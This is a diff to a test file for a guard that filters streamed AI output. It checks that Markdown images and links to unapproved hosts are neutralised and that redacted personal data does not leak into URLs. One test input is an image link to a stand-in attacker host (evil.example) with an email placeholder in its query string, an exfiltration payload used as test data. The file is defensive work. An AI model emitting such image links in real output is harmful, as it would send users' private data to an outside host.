@@ -90,8 +90,9 @@ describe('stream guard', () => {
 
   it('holds an open Markdown image until its target has arrived, then releases it neutralised', () => {
     const opts = options(true);
-    const guard = createStreamGuard({ check: (t) => checkOutput(t, opts), vault: opts.vault });
-    const lead = 'ご案内です。'.repeat(30);
+    const guard = createStreamGuard({ check: (t) => checkOutput(t, opts), vault: opts.vault, restoring: true });
+    // A line of its own: with restore on, a space-free run holding a placeholder is held whole.
+    const lead = `${'ご案内です。'.repeat(30)}\n`;
     let released = guard.push(`${lead}![logo](https://evil.example/p.png?q=[EMAIL_1]`).text;
     released += guard.push('あ'.repeat(HOLD_BACK_CHARS * 2)).text;
     expect(released.length).toBeGreaterThan(0);
@@ -130,7 +131,7 @@ describe('stream guard', () => {
   it('restores the caller\'s own values as the buffered check does', () => {
     const answer = `${'ご依頼の件です。'.repeat(16)}ご連絡先は [EMAIL_1] と [PHONE_NUMBER_1] ですね。${'承知しました。'.repeat(20)}`;
     const opts = options(true);
-    const { released } = run(createStreamGuard({ check: (t) => checkOutput(t, opts), vault: opts.vault }), chunked(answer, [3, 50, 130, 131, 140, 150, 170]));
+    const { released } = run(createStreamGuard({ check: (t) => checkOutput(t, opts), vault: opts.vault, restoring: true }), chunked(answer, [3, 50, 130, 131, 140, 150, 170]));
     expect(released).toBe(checkOutput(answer, opts).text);
     expect(released).toContain(CALLER.email);
   });
@@ -190,7 +191,7 @@ describe('stream guard', () => {
         const opts = options(restore);
         const answer = `${'ご案内です。'.repeat(12)}${form}${'以上です。'.repeat(25)}`;
         const buffered = checkOutput(answer, opts);
-        const { released, blocked } = run(createStreamGuard({ check: (t) => checkOutput(t, opts), vault: opts.vault, step: 8 }), chunked(answer, cuts));
+        const { released, blocked } = run(createStreamGuard({ check: (t) => checkOutput(t, opts), vault: opts.vault, restoring: restore, step: 8 }), chunked(answer, cuts));
         expect(blocked).toBe(buffered.action === 'block');
         if (!blocked) expect(released).toBe(buffered.text);
         expect(liveUrls(released)).toEqual([]);
@@ -205,7 +206,7 @@ describe('stream guard', () => {
       fc.property(answers, fc.array(fc.nat(), { maxLength: 40 }), fc.boolean(), fc.integer({ min: 8, max: HOLD_BACK_CHARS }), fc.integer({ min: 1, max: 64 }), (answer, cuts, restore, window, step) => {
         const opts = options(restore);
         const buffered = checkOutput(answer, opts);
-        const guard = createStreamGuard({ check: (t) => checkOutput(t, opts), vault: opts.vault, window, step });
+        const guard = createStreamGuard({ check: (t) => checkOutput(t, opts), vault: opts.vault, restoring: restore, window, step });
         const { released, blocked } = run(guard, chunked(answer, cuts));
         for (const v of NEW_IDENTIFIERS) for (const form of leakForms(v)) expect(released).not.toContain(form);
         // No image, link or URL to a host off the allow-list, and no restored value inside a URL.
